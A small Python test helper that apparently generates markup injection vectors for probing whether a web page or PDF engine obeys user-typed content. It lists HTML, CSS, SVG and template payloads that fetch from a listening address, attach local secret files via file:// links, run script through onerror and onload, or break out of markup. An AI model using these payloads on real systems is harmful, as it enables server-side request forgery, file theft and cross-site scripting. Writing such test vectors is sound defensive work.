"""Markup that people might type, to see whether any of it is ever obeyed.

Each fetches, runs or shows something when a page or the PDF engine believes it.
"""

from __future__ import annotations


def vectors(address: str, secret_file: str) -> list[str]:
    """List the markup, each pointing at a listening address or a secret file."""
    return [
        f'<img src="{address}/img">',
        f'<img src=x onerror="alert(1)" srcset="{address}/srcset 2x">',
        f'<link rel="stylesheet" href="{address}/sheet">',
        f'<link rel="attachment" href="file://{secret_file}">',
        f'<a rel="attachment" href="file://{secret_file}">x</a>',
        f'<style>@import url("{address}/import");</style>',
        f'<style>p{{background:url("{address}/background")}}</style>',
        f'<style>@font-face{{font-family:f;src:url("{address}/font")}}*{{font-family:f}}</style>',
        f'<style>li{{list-style-image:url("{address}/list")}}</style>',
        f'<style>p::before{{content:url("{address}/content")}}</style>',
        f'<p style="background-image:url({address}/style)">x</p>',
        f'<object data="{address}/object"></object>',
        f'<embed src="{address}/embed">',
        f'<iframe src="{address}/iframe"></iframe>',
        f'<svg><image href="{address}/svg" width="9" height="9"/></svg>',
        f'<svg><use href="{address}/use#x"/></svg>',
        f'<meta http-equiv="refresh" content="0;url={address}/refresh">',
        f'<base href="{address}/base/"><img src="relative">',
        "<script>alert(document.domain)</script>",
        "</p></section><h1>Mine</h1>",
        "{{ 7|add:7 }} {% include 'reports/pdf/1/report.css' %}",
        '"><svg onload=alert(1)>',
    ]
